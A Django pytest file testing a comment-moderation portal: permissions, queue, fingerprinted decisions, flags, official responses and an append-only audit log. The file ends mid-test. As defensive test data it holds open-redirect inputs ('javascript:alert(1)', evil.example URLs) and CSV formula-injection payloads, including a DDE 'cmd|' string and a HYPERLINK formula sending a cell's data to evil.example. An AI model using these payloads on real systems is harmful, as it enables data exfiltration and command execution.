"""Moderation: the queue, decisions with published reasons, flags, official responses, audit log, email."""

import csv
import datetime
import io
import re
import threading

import pytest
import time_machine
from django.core import mail
from django.core.management import call_command
from django.db import IntegrityError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dialogue import services
from dialogue.models import Appeal, Comment, Flag, ModerationEvent, OfficialResponse
from outbox import delivery
from outbox.models import Message as OutboxMessage

from .factories import PASSWORD, make_comment, make_moderator, make_statement, make_user, reauthenticate

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_rate_limit")]
Status = Comment.Status


@pytest.fixture
def statement():
    return make_statement(title_en="Statement under moderation")


@pytest.fixture
def author():
    return make_user("author@example.org", display_name="Author", preferred_language="en")


@pytest.fixture
def pending(statement, author):
    return make_comment(statement, author=author, body="A pending comment about border wait times.")


def moderation_urls(comment):
    number = comment.tracking_number
    return {
        "get": ["/en/moderation/", "/en/moderation/?status=flagged", f"/en/moderation/comments/{number}/",
                "/en/moderation/log/", "/en/moderation/log.csv"],
        "post": [f"/en/moderation/comments/{number}/approve/", f"/en/moderation/comments/{number}/reject/",
                 f"/en/moderation/comments/{number}/hide/", f"/en/moderation/comments/{number}/restore/",
                 f"/en/moderation/comments/{number}/reports/resolve/",
                 f"/en/moderation/comments/{number}/responses/new/", "/en/moderation/bulk/"],
    }  # fmt: skip


class TestPermissionLadder:
    def test_anonymous_is_sent_to_sign_in(self, client, pending):
        urls = moderation_urls(pending)
        for url in urls["get"]:
            response = client.get(url)
            assert response.status_code == 302 and "/accounts/login/" in response["Location"], url
        for url in urls["post"]:
            response = client.post(url)
            assert response.status_code == 302 and "/accounts/login/" in response["Location"], url

    def test_stakeholder_without_permission_gets_403(self, client, pending):
        client.force_login(make_user())
        urls = moderation_urls(pending)
        for url in urls["get"]:
            assert client.get(url).status_code == 403, url
        for url in urls["post"]:
            assert client.post(url).status_code == 403, url
        pending.refresh_from_db()
        assert pending.status == Status.PENDING

    def test_moderator_gets_200(self, client, pending, moderator):
        client.force_login(moderator)
        for url in moderation_urls(pending)["get"]:
            assert client.get(url).status_code == 200, url

    def test_moderator_without_mfa_is_sent_to_set_it_up(self, client, pending):
        client.force_login(make_user(groups=["Moderators"]))
        response = client.get("/en/moderation/")
        assert response.status_code == 302 and "/accounts/2fa/totp/activate" in response["Location"]


class TestQueue:
    def test_pending_oldest_first_with_context_and_history(self, client, statement, moderator):
        veteran = make_user(display_name="Veteran", country="MX", sector="labour", organisation="CTM")
        published = make_comment(statement, author=veteran, approve_by=moderator, body="An earlier published one.")
        refused = make_comment(statement, author=veteran, body="An earlier refused one.")
        services.comment_reject(comment=refused, seen=refused.fingerprint, moderator=moderator, reason="off_topic")
        first = make_comment(statement, body="First to arrive in the queue.", language="fr")
        reply = make_comment(statement, author=veteran, parent=published, body="Second, a reply in context.")
        client.force_login(moderator)
        html = client.get("/en/moderation/").text
        assert html.index(first.tracking_number) < html.index(reply.tracking_number)
        assert "history: 1 approved, 1 rejected" in html
        assert "Veteran · Mexico · Labour · CTM" in html
        assert "In reply to Veteran:" in html and "An earlier published one." in html
        assert "waiting" in html and "2 items wait, oldest first" in html
        assert "2 pending" in html, "the count shows in the navigation"

    def test_filters(self, client, statement, moderator):
        other = make_statement(title_en="Another statement")
        make_comment(statement, body="On the first statement, in French.", language="fr")
        make_comment(other, body="On the other statement, in Spanish.", language="es")
        client.force_login(moderator)
        html = client.get(f"/en/moderation/?statement={other.slug}").text
        assert "in Spanish" in html and "in French" not in html
        html = client.get("/en/moderation/?language=fr").text
        assert "in French" in html and "in Spanish" not in html
        make_comment(statement, author=make_user(country="US"), body="From the United States here.")
        html = client.get("/en/moderation/?country=US").text
        assert "From the United States here." in html and "in French" not in html

    @pytest.mark.parametrize("extra", [0, 990])
    def test_query_count_does_not_grow_with_the_queue(self, client, statement, moderator, extra, settings):
        from dialogue.demo import CommentSeeder

        CommentSeeder(statement, say=lambda message: None).seed(0, 10 + extra)
        assert Comment.objects.pending().count() == 10 + extra
        client.force_login(moderator)
        client.get("/en/moderation/")  # warm the per-process caches (content types, permissions)
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/en/moderation/").status_code == 200
        # The page is shared by all moderators and cached (pagecache/readers.py): only the user remains,
        # read with their permissions, the MFA check, whether they belong to an organisation and whether a
        # comment of theirs waits (this one's do neither); the session is cached.
        assert len(queries) == 1, "\n".join(q["sql"][:150] for q in queries.captured_queries)
        settings.PUBLIC_PAGE_CACHE_SECONDS = 0  # and rendered afresh, it still does not grow
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/en/moderation/").status_code == 200
        # (the navigation's counts: pending, flagged, appeals, organisations to verify)
        assert len(queries) == 9, "\n".join(q["sql"][:150] for q in queries.captured_queries)

    def test_the_cached_listing_is_current_after_a_decision(self, client, statement, moderator):
        first = make_comment(statement, body="First in the cached queue.")
        make_comment(statement, body="Second in the cached queue.")
        client.force_login(moderator)
        assert "First in the cached queue." in client.get("/en/moderation/").text
        client.post(f"/en/moderation/comments/{first.tracking_number}/approve/", {"seen": first.fingerprint})
        html = client.get("/en/moderation/").text
        assert "First in the cached queue." not in html and "Second in the cached queue." in html
        assert "1 item waits, oldest first" in html

    def test_the_bulk_form_does_not_list_every_comment_again(self, client, statement, moderator):
        """Comments are chosen with one checkbox each on the page, not a <select> of the whole table."""
        from dialogue.demo import CommentSeeder

        CommentSeeder(statement, say=lambda message: None).seed(0, 60)
        client.force_login(moderator)
        html = client.get("/en/moderation/").text
        assert html.count('name="comments"') == 50, "one checkbox per comment on the page (50 a page)"
        assert '<select name="comments"' not in html


ORIGINAL = "We support the border plan as published in February."
EDITED = "We oppose the border plan: it ignores small exporters entirely."


def _seen_on(html: str, attribute_of: str) -> str:
    """The fingerprint a page sent with one of its decision buttons or checkboxes."""
    match = re.search(attribute_of, html)
    assert match, "the page carries no fingerprint of the text it shows"
    return match.group(1)


class TestTheModeratorDecidesOnTheTextTheySaw:
    """An author may edit a pending comment while a moderator has it open: a decision never applies to unseen text."""

    @pytest.fixture
    def comment(self, statement, author):
        return make_comment(statement, author=author, body=ORIGINAL)

    def _author_edits(self, comment, author):
        editor = Client()
        editor.force_login(author)
        response = editor.post(f"/en/dialogue/comments/{comment.tracking_number}/edit/", {"body": EDITED})
        assert response.status_code == 302
        assert Comment.objects.get(pk=comment.pk).body == EDITED

    def test_one_click_approve_from_the_queue_is_refused_after_an_edit(self, client, comment, author, moderator):
        client.force_login(moderator)
        queue = client.get("/en/moderation/").text
        assert ORIGINAL in queue
        seen = _seen_on(queue, rf'name="seen" value="([0-9a-f]{{64}})"[^>]*>Approve {comment.tracking_number}')
        self._author_edits(comment, author)

        response = client.post(
            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": seen}, follow=True
        )
        assert "The text changed since it was shown to you" in response.text
        assert EDITED in response.text, "the moderator is shown the new text"
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
        assert not ModerationEvent.objects.filter(comment=comment, action="approve").exists()
        client.logout()
        assert EDITED not in client.get(comment.statement.get_absolute_url()).text

    def test_the_queue_shows_the_new_text_at_once_and_a_decision_on_it_goes_through(
        self, client, comment, author, moderator
    ):
        """The queue is shared by every moderator and cached: an edit refreshes it."""
        client.force_login(moderator)
        assert ORIGINAL in client.get("/en/moderation/").text
        self._author_edits(comment, author)
        queue = client.get("/en/moderation/").text
        assert EDITED in queue and ORIGINAL not in queue
        seen = _seen_on(queue, rf'name="seen" value="([0-9a-f]{{64}})"[^>]*>Approve {comment.tracking_number}')
        client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": seen})
        assert Comment.objects.get(pk=comment.pk).status == Status.APPROVED

    def test_a_rejection_from_the_decision_page_is_refused_after_an_edit(self, client, comment, author, moderator):
        client.force_login(moderator)
        page = client.get(f"/en/moderation/comments/{comment.tracking_number}/").text
        seen = _seen_on(page, r'type="hidden" name="seen" value="([0-9a-f]{64})"')
        self._author_edits(comment, author)
        response = client.post(
            f"/en/moderation/comments/{comment.tracking_number}/reject/",
            {"seen": seen, "reason": "off_topic"},
            follow=True,
        )
        assert "The text changed since it was shown to you" in response.text and EDITED in response.text
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING

    def test_a_bulk_decision_skips_the_edited_comment_and_decides_the_others(
        self, client, statement, comment, author, moderator
    ):
        other = make_comment(statement, body="An untouched comment on the same statement.")
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        queue = client.get("/en/moderation/").text
        selected = [
            _seen_on(queue, rf'name="comments" value="({item.pk}:[0-9a-f]{{64}})"') for item in (comment, other)
        ]
        self._author_edits(comment, author)
        response = client.post("/en/moderation/bulk/", {"bulk_action": "approve", "comments": selected}, follow=True)
        assert "1 comment approved." in response.text
        assert f"{comment.tracking_number}: The text changed since it was shown to you" in response.text
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
        assert Comment.objects.get(pk=other.pk).status == Status.APPROVED

    def test_a_decision_without_the_text_seen_is_refused(self, client, comment, moderator):
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        for data in ({}, {"seen": "not-a-fingerprint"}):
            response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", data, follow=True)
            assert "The text changed since it was shown to you" in response.text
        response = client.post(
            "/en/moderation/bulk/", {"bulk_action": "approve", "comments": [str(comment.pk)]}, follow=True
        )
        assert "The selection was not understood" in response.text
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING

    @pytest.mark.parametrize("decide", ["approve", "reject"])
    def test_the_service_refuses_too(self, comment, author, moderator, decide):
        """Any caller of the services, not only the pages, meets the rule."""
        seen = comment.fingerprint
        services.comment_edit(comment=comment, author=author, body=EDITED)
        with pytest.raises(services.TextChanged):
            if decide == "approve":
                services.comment_approve(comment=comment, seen=seen, moderator=moderator)
            else:
                services.comment_reject(comment=comment, seen=seen, moderator=moderator, reason="spam")
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING


class TestDecisions:
    def test_approve_publishes_and_emails_the_author(
        self, client, statement, pending, moderator, django_capture_on_commit_callbacks
    ):
        client.force_login(moderator)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(f"/en/moderation/comments/{pending.tracking_number}/approve/", {"seen": pending.fingerprint})
        pending.refresh_from_db()
        assert pending.status == Status.APPROVED and pending.decided_at
        assert mail.outbox[-1].to == ["author@example.org"]
        assert "is published" in mail.outbox[-1].subject
        client.logout()
        assert "A pending comment about border wait times." in client.get(statement.get_absolute_url()).text

    @pytest.mark.parametrize("decide", [services.comment_reject, services.comment_hide])
    @pytest.mark.parametrize("reason", ["", "not-a-rule-of-the-policy"])
    def test_the_services_refuse_without_a_reason_in_the_forms_words(self, statement, moderator, decide, reason):
        """Any caller (admin, command, bulk) meets the same rule and message as the moderation form."""
        comment = make_comment(statement, approve_by=moderator if decide is services.comment_hide else None)
        with pytest.raises(services.NotAllowed, match=r"Choose the rule this comment breaks\."):
            decide(comment=comment, seen=comment.fingerprint, moderator=moderator, reason=reason)
        assert Comment.objects.get(pk=comment.pk).status == comment.status

    def test_reject_needs_a_reason_and_tells_the_author(
        self, client, pending, moderator, django_capture_on_commit_callbacks
    ):
        client.force_login(moderator)
        url = f"/en/moderation/comments/{pending.tracking_number}/reject/"
        response = client.post(url, {"seen": pending.fingerprint, "reason": "", "note": ""}, follow=True)
        assert "Choose the rule this comment breaks." in response.text
        pending.refresh_from_db()
        assert pending.status == Status.PENDING
        with django_capture_on_commit_callbacks(execute=True):
            client.post(
                url,
                {
                    "seen": pending.fingerprint,
                    "reason": "personal_information",
                    "note": "Please remove the phone number.",
                },
            )
        pending.refresh_from_db()
        assert (pending.status, pending.decision_reason) == (Status.REJECTED, "personal_information")
        email = mail.outbox[-1]
        assert "3. Personal information" in email.body and "Please remove the phone number." in email.body
        event = ModerationEvent.objects.filter(comment=pending).first()
        assert (event.action, event.actor, event.from_status, event.to_status) == (
            "reject",
            moderator,
            Status.PENDING,
            Status.REJECTED,
        )

    def test_hide_keeps_a_placeholder_and_restore_brings_it_back(self, client, statement, pending, moderator):
        services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
        client.force_login(moderator)
        client.post(
            f"/en/moderation/comments/{pending.tracking_number}/hide/",
            {"seen": pending.fingerprint, "reason": "abusive", "confirm": "on"},
        )
        pending.refresh_from_db()
        assert pending.status == Status.HIDDEN
        client.post(f"/en/moderation/comments/{pending.tracking_number}/restore/", {"seen": pending.fingerprint})
        pending.refresh_from_db()
        assert pending.status == Status.APPROVED

    @pytest.mark.parametrize(
        ("setup", "action", "kwargs"),
        [
            ("withdrawn", services.comment_approve, {}),
            ("approved", services.comment_reject, {"reason": "spam"}),
            ("pending", services.comment_hide, {"reason": "spam"}),
            ("approved", services.comment_restore, {}),
            ("rejected", services.comment_restore, {}),
            ("withdrawn", services.comment_reject, {"reason": "spam"}),
        ],
    )
    def test_forbidden_transitions_change_nothing(self, pending, author, moderator, setup, action, kwargs):
        if setup == "withdrawn":
            services.comment_withdraw(comment=pending, author=author)
        elif setup == "approved":
            services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
        elif setup == "rejected":
            services.comment_reject(comment=pending, seen=pending.fingerprint, moderator=moderator, reason="spam")
        before = (Comment.objects.get(pk=pending.pk).status, ModerationEvent.objects.count())
        with pytest.raises(services.DialogueError):
            action(comment=pending, seen=pending.fingerprint, moderator=moderator, **kwargs)
        assert (Comment.objects.get(pk=pending.pk).status, ModerationEvent.objects.count()) == before

    def test_second_decision_is_told_who_decided(self, client, pending, moderator):
        services.comment_approve(
            comment=pending, seen=pending.fingerprint, moderator=make_moderator(display_name="Xavier")
        )
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{pending.tracking_number}/reject/",
            {"seen": pending.fingerprint, "reason": "spam"},
            follow=True,
        )
        assert "This comment was already decided (Published) by Xavier." in response.text
        pending.refresh_from_db()
        assert pending.status == Status.APPROVED

    def test_bulk_approve_and_reject(self, client, statement, moderator):
        comments = [make_comment(statement, body=f"Bulk comment number {n}.") for n in range(4)]
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        response = client.post(
            "/en/moderation/bulk/",
            {"bulk_action": "approve", "comments": [_selected(c) for c in comments[:2]]},
            follow=True,
        )
        assert "2 comments approved." in response.text
        response = client.post(
            "/en/moderation/bulk/",
            {"bulk_action": "reject", "comments": [_selected(c) for c in comments], "reason": "duplicate_campaign"},
            follow=True,
        )
        assert "2 comments rejected." in response.text
        assert "already decided" in response.text  # the two approved ones are reported, not changed
        statuses = [Comment.objects.get(pk=c.pk).status for c in comments]
        assert statuses == [Status.APPROVED, Status.APPROVED, Status.REJECTED, Status.REJECTED]

    def test_all_on_this_page_decides_every_comment_shown_without_ticking_any(self, client, statement, moderator):
        """No JavaScript needed: "Apply to all … on this page" sends each shown comment with the text seen."""
        comments = [make_comment(statement, body=f"A comment for the whole page, number {n}.") for n in range(3)]
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        queue = client.get("/en/moderation/").text
        assert "Apply to all 3 comments on this page" in queue
        shown = re.findall(r'name="shown" value="(\d+:[0-9a-f]{64})"', queue)
        assert sorted(shown) == sorted(_selected(c) for c in comments)
        response = client.post(
            "/en/moderation/bulk/", {"bulk_action": "approve", "scope": "page", "shown": shown}, follow=True
        )
        assert "3 comments approved." in response.text
        assert {Comment.objects.get(pk=c.pk).status for c in comments} == {Status.APPROVED}

    def test_all_on_this_page_still_refuses_a_comment_edited_since_it_was_shown(
        self, client, statement, moderator, author
    ):
        edited = make_comment(statement, author=author, body="The text the moderator saw on the page.")
        other = make_comment(statement, body="Another comment shown on the same page.")
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        shown = re.findall(r'name="shown" value="(\d+:[0-9a-f]{64})"', client.get("/en/moderation/").text)
        services.comment_edit(comment=edited, author=author, body="A text the moderator never saw at all.")
        response = client.post(
            "/en/moderation/bulk/", {"bulk_action": "approve", "scope": "page", "shown": shown}, follow=True
        )
        assert "1 comment approved." in response.text
        assert Comment.objects.get(pk=edited.pk).status == Status.PENDING
        assert Comment.objects.get(pk=other.pk).status == Status.APPROVED

    def test_the_selected_scope_ignores_the_rest_of_the_page(self, client, statement, moderator):
        comments = [make_comment(statement, body=f"Only the ticked one counts, number {n}.") for n in range(2)]
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        shown = [_selected(c) for c in comments]
        response = client.post(
            "/en/moderation/bulk/",
            {"bulk_action": "approve", "scope": "selected", "shown": shown, "comments": shown[:1]},
            follow=True,
        )
        assert "1 comment approved." in response.text
        assert Comment.objects.get(pk=comments[1].pk).status == Status.PENDING
        nothing = client.post("/en/moderation/bulk/", {"bulk_action": "approve", "shown": shown}, follow=True)
        assert "Select at least one comment." in nothing.text
        assert Comment.objects.get(pk=comments[1].pk).status == Status.PENDING

    def test_bulk_reject_without_a_reason_changes_nothing(self, client, statement, moderator):
        comment = make_comment(statement)
        client.force_login(moderator)
        reauthenticate(client)  # a bulk decision asks for the password again
        response = client.post(
            "/en/moderation/bulk/", {"bulk_action": "reject", "comments": [_selected(comment)]}, follow=True
        )
        assert "Choose the rule this comment breaks." in response.text
        assert Comment.objects.get(pk=comment.pk).status == Status.PENDING

    @pytest.mark.parametrize(
        "target",
        ["https://evil.example/", "//evil.example/", "/\\evil.example/", "/\t/evil.example/", "javascript:alert(1)"],
    )
    def test_a_destination_off_the_site_is_replaced_by_the_queue(self, client, statement, moderator, target):
        """After a decision the moderator goes back to `next` only if it is a page of the portal."""
        comment = make_comment(statement)
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": comment.fingerprint, "next": target}
        )
        assert response.status_code == 302 and response["Location"] == "/en/moderation/"

    @pytest.mark.parametrize("target", ["/en/moderation/?status=flagged&page=2", "http://testserver/en/moderation/"])
    def test_a_destination_on_the_site_is_kept(self, client, statement, moderator, target):
        comment = make_comment(statement)
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{comment.tracking_number}/approve/", {"seen": comment.fingerprint, "next": target}
        )
        assert response["Location"] == target

    def test_an_smtp_server_that_is_down_never_undoes_the_decision(self, client, pending, moderator, settings, caplog):
        """The decision email waits in the outbox; the worker's failure is logged and retried later."""
        settings.EMAIL_BACKEND = "outbox.backends.OutboxBackend"
        settings.OUTBOX_DELIVERY_BACKEND = "tests.email_backends.FailingEmailBackend"
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{pending.tracking_number}/approve/", {"seen": pending.fingerprint}
        )
        assert response.status_code == 302
        pending.refresh_from_db()
        assert pending.status == Status.APPROVED
        assert ModerationEvent.objects.filter(comment=pending, action="approve").exists()
        [message] = OutboxMessage.objects.all()
        assert message.to == [pending.author.email] and "published" in message.subject.lower()
        assert delivery.send_due().failed == 1
        message.refresh_from_db()
        assert (message.status, message.attempts) == (OutboxMessage.Status.PENDING, 1)
        assert "email not sent" in caplog.text

    def test_an_smtp_server_that_is_down_never_loses_a_submission(self, client, statement, author, settings):
        settings.EMAIL_BACKEND = "outbox.backends.OutboxBackend"
        settings.OUTBOX_DELIVERY_BACKEND = "tests.email_backends.FailingEmailBackend"
        client.force_login(author)
        response = client.post(
            f"/en/dialogue/statements/{statement.slug}/comment/",
            {"about": "", "body": "Saved even when the mail server is down.", "language": "en"},
        )
        assert response.status_code == 302
        assert Comment.objects.filter(body="Saved even when the mail server is down.").exists()
        delivery.send_due()
        assert OutboxMessage.objects.pending().get().to == [author.email]


class TestFlags:
    def test_threshold_hides_and_returns_to_the_queue_flagged(self, client, statement, moderator, settings):
        settings.FLAG_THRESHOLD = 3
        comment = make_comment(statement, approve_by=moderator, body="A comment some find abusive.")
        for _number in range(2):
            services.comment_flag(comment=comment, flagger=make_user(), reason="abusive")
        assert Comment.objects.get(pk=comment.pk).status == Status.APPROVED
        flagger = make_user()
        client.force_login(flagger)
        response = client.post(
            f"/en/dialogue/comments/{comment.tracking_number}/report/", {"reason": "abusive", "note": "Insults."}
        )
        assert response.status_code == 302
        comment.refresh_from_db()
        assert comment.status == Status.HIDDEN and comment.flagged
        client.force_login(moderator)
        assert comment.tracking_number in client.get("/en/moderation/?status=flagged").text
        assert comment.tracking_number not in client.get("/en/moderation/").text

    def test_each_stakeholder_flags_once_and_never_their_own(self, statement, moderator, author):
        comment = make_comment(statement, author=author, approve_by=moderator)
        flagger = make_user()
        services.comment_flag(comment=comment, flagger=flagger, reason="spam")
        with pytest.raises(services.NotAllowed, match="already reported"):
            services.comment_flag(comment=comment, flagger=flagger, reason="spam")
        with pytest.raises(services.NotAllowed, match="your own"):
            services.comment_flag(comment=comment, flagger=author, reason="spam")
        assert Flag.objects.count() == 1

    @pytest.mark.parametrize(("resolution", "status"), [("dismiss", Status.APPROVED), ("uphold", Status.HIDDEN)])
    def test_moderator_resolves_flags(self, client, statement, moderator, settings, resolution, status):
        settings.FLAG_THRESHOLD = 2
        comment = make_comment(statement, approve_by=moderator)
        for _ in range(2):
            services.comment_flag(comment=comment, flagger=make_user(), reason="off_topic")
        client.force_login(moderator)
        client.post(
            f"/en/moderation/comments/{comment.tracking_number}/reports/resolve/",
            {"seen": comment.fingerprint, "resolution": resolution},
        )
        comment.refresh_from_db()
        assert (comment.status, comment.flagged) == (status, False)
        expected = Flag.Resolution.DISMISSED if resolution == "dismiss" else Flag.Resolution.UPHELD
        assert set(Flag.objects.values_list("resolution", flat=True)) == {expected}
        assert ModerationEvent.objects.filter(comment=comment, action=f"flags_{expected}").exists()


class TestOfficialResponses:
    def test_response_after_the_period_closes_is_shown_with_a_badge(self, client, statement, moderator):
        comment = make_comment(statement, approve_by=moderator, body="What is the timetable?")
        statement.comments_close_at = timezone.now() - datetime.timedelta(days=1)
        statement.comments_open_at = statement.comments_close_at - datetime.timedelta(days=10)
        statement.save()
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{comment.tracking_number}/responses/new/",
            {"government": "joint", "body": "The timetable will be published in June.", "language": "en"},
        )
        assert response.status_code == 302
        assert OfficialResponse.objects.get().government == "joint"
        client.logout()
        html = client.get(statement.get_absolute_url()).text
        assert "Official response" in html and "The timetable will be published in June." in html
        assert "Canada, Mexico and the United States jointly" in html

    def test_the_response_form_is_reached_from_the_queue_and_the_decision_page(self, client, pending, moderator):
        """From the queue item to the decision page, "approve, then respond" lands on the response form."""
        client.force_login(moderator)
        detail = f"/en/moderation/comments/{pending.tracking_number}/"
        queue = client.get("/en/moderation/").text
        assert f'href="{detail}#decide">Approve and respond officially…</a>' in queue
        page = client.get(detail).text
        assert "An official response can be written once the comment is published" in page
        button = re.search(r'<button type="submit"[^>]*name="next" value="([^"]+)"[^>]*>([^<]+)</button>', page)
        assert button.groups() == (f"{detail}#respond", "Approve, then write an official response")
        response = client.post(f"{detail}approve/", {"seen": pending.fingerprint, "next": button[1]})
        assert response["Location"] == f"{detail}#respond"
        page = client.get(detail).text
        assert 'id="respond"' in page and 'name="government"' in page

    def test_on_a_published_comment_the_response_comes_first_and_hiding_is_set_apart(self, client, pending, moderator):
        services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
        client.force_login(moderator)
        page = client.get(f"/en/moderation/comments/{pending.tracking_number}/").text
        respond, hide = page.index("Publish the official response"), page.index("Hide from the public</button>")
        assert respond < hide
        # Hiding sits in a closed disclosure, away from the main action, and asks for a confirmation.
        assert re.search(r"<details>\s*<summary>Hide this comment from the public…</summary>", page)
        assert 'name="confirm"' in page[page.index("<details>") :]

    def test_hiding_without_the_confirmation_changes_nothing(self, client, pending, moderator):
        services.comment_approve(comment=pending, seen=pending.fingerprint, moderator=moderator)
        client.force_login(moderator)
        response = client.post(
            f"/en/moderation/comments/{pending.tracking_number}/hide/",
            {"seen": pending.fingerprint, "reason": "abusive"},
            follow=True,
        )
        assert "Tick the box to confirm that this comment should be hidden from the public." in response.text
        assert Comment.objects.get(pk=pending.pk).status == Status.APPROVED

    def test_only_published_comments_get_a_response(self, pending, moderator):
        with pytest.raises(services.NotAllowed):
            services.response_post(comment=pending, moderator=moderator, government="CA", body="x", language="en")


class TestAuditLog:
    def test_events_cannot_be_changed_or_deleted(self, pending):
        event = ModerationEvent.objects.get(comment=pending)
        event.note = "rewritten"
        with pytest.raises(PermissionError):
            event.save()
        with pytest.raises(PermissionError):
            event.delete()
        assert ModerationEvent.objects.get(pk=event.pk).note == ""

    def test_the_database_itself_refuses_to_rewrite_an_event(self, pending):
        """Not only the model: an UPDATE or DELETE in SQL fails (a trigger; DELETE on PostgreSQL only)."""
        event = ModerationEvent.objects.get(comment=pending)
        statements = ["UPDATE dialogue_moderationevent SET note = 'rewritten' WHERE id = %s"]
        statements.append("UPDATE dialogue_moderationevent SET actor_name = 'Someone else' WHERE id = %s")
        if connection.vendor == "postgresql":
            statements.append("DELETE FROM dialogue_moderationevent WHERE id = %s")
        for sql in statements:
            with (
                pytest.raises(IntegrityError, match="append-only"),
                transaction.atomic(),
                connection.cursor() as cursor,
            ):
                cursor.execute(sql, [event.pk])
        assert ModerationEvent.objects.filter(pk=event.pk, note="", actor_name="Author").exists()
        # The model's queryset goes through the same SQL, so it is refused too.
        with pytest.raises(IntegrityError), transaction.atomic():
            ModerationEvent.objects.filter(pk=event.pk).update(to_status="approved")

    def test_a_deleted_accounts_name_leaves_the_log_and_its_csv(self, client, statement, moderator):
        author = make_user("leaving@example.org", display_name="Wilhelmina Leaving")
        first = services.comment_submit(
            author=author, statement=statement, body="My first comment here.", language="en"
        )
        services.comment_submit(author=author, statement=statement, body="And a second comment here.", language="en")
        services.comment_approve(comment=first, seen=first.fingerprint, moderator=moderator)
        leaving = Client()
        leaving.force_login(author)
        assert leaving.post("/en/accounts/delete/", {"password": PASSWORD}).status_code == 302

        names = set(ModerationEvent.objects.filter(comment__statement=statement).values_list("actor_name", flat=True))
        pseudonyms = {name for name in names if name.startswith("Former participant ")}
        assert len(pseudonyms) == 1 and re.fullmatch(r"Former participant [0-9A-Z]{4}", pseudonyms.pop())
        assert "Moe" in names  # an official's decision keeps its official's name
        client.force_login(moderator)
        log = client.get("/en/moderation/log/").text
        export = b"".join(client.get("/en/moderation/log.csv").streaming_content).decode()
        for page in (log, export):
            assert "Wilhelmina" not in page
            assert "Former participant " in page

    def test_admin_offers_no_change_or_delete(self, client, pending):
        from django.contrib.auth.models import Permission

        superuser = make_user(staff=True, mfa=True)
        superuser.is_superuser = True
        superuser.save()
        client.force_login(superuser)
        event = ModerationEvent.objects.get(comment=pending)
        response = client.get(f"/admin/dialogue/moderationevent/{event.pk}/change/")
        assert response.status_code == 200 and 'name="_save"' not in response.text
        assert client.post(f"/admin/dialogue/moderationevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
        assert ModerationEvent.objects.filter(pk=event.pk).exists()
        assert not Permission.objects.filter(group__name="Moderators", codename__startswith="delete_").exists()

    def test_filter_and_export(self, client, statement, moderator):
        other = make_moderator(display_name="Other moderator")
        first = make_comment(statement, body="Decided by Moe, approved.")
        second = make_comment(statement, body="Decided by the other moderator.")
        services.comment_approve(comment=first, seen=first.fingerprint, moderator=moderator)
        services.comment_reject(
            comment=second, seen=second.fingerprint, moderator=other, reason="spam", note="Advertising."
        )
        client.force_login(moderator)
        html = client.get(f"/en/moderation/log/?moderator={other.pk}").text
        assert second.tracking_number in html and first.tracking_number not in html
        html = client.get("/en/moderation/log/?action=approve").text
        assert first.tracking_number in html and second.tracking_number not in html
        response = client.get("/en/moderation/log.csv?action=reject")
        rows = b"".join(response.streaming_content).decode().splitlines()
        assert rows[0] == "time,comment,action,from_status,to_status,reason,note,actor"
        assert len(rows) == 2 and second.tracking_number in rows[1] and "Advertising." in rows[1]

    def test_export_neutralises_cells_a_spreadsheet_would_run(self, client, statement):
        """A moderator's name and note that look like formulas reach the CSV as text, behind one quote."""
        hostile = make_moderator(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
        comment = make_comment(statement, body="A comment that a hostile-looking moderator rejects.")
        note = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
        services.comment_reject(comment=comment, seen=comment.fingerprint, moderator=hostile, reason="spam", note=note)
        client.force_login(hostile)
        text = b"".join(client.get("/en/moderation/log.csv?action=reject").streaming_content).decode()
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["note"] == "'" + note
        assert row["actor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["comment"] == comment.tracking_number and row["reason"] == "spam"


def test_moderation_digest_emails_moderators_in_their_language(statement, pending, capsys):
    make_moderator(display_name="Marie", preferred_language="fr")
    mail.outbox.clear()  # the pending comment's receipt
    call_command("moderation_digest")
    assert len(mail.outbox) == 1
    assert "1 comment awaits moderation" in mail.outbox[0].subject or "1 commentaire" in mail.outbox[0].subject
    assert "/fr/moderation/" in mail.outbox[0].body
    assert "Digest queued for 1 moderator(s). 1 pending." in capsys.readouterr().out


def test_transparency_report_counts_decisions_without_personal_data(client, statement, moderator):
    for reason in ("spam", "spam", "abusive"):
        comment = make_comment(statement, body=f"To be rejected for {reason} {timezone.now().timestamp()}")
        services.comment_reject(comment=comment, seen=comment.fingerprint, moderator=moderator, reason=reason)
    make_comment(statement, approve_by=moderator)
    html = client.get("/en/dialogue/moderation-report/").text
    assert '<th scope="row">4. Spam or commercial</th><td>2</td>' in html
    assert '<th scope="row">2. Abusive or hateful</th><td>1</td>' in html
    assert "Moe" not in html and "@example" not in html


@pytest.mark.skipif(connection.vendor != "postgresql", reason="row locks need PostgreSQL (CI runs it)")
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_moderators_deciding_at_once_one_wins_and_the_other_is_told():
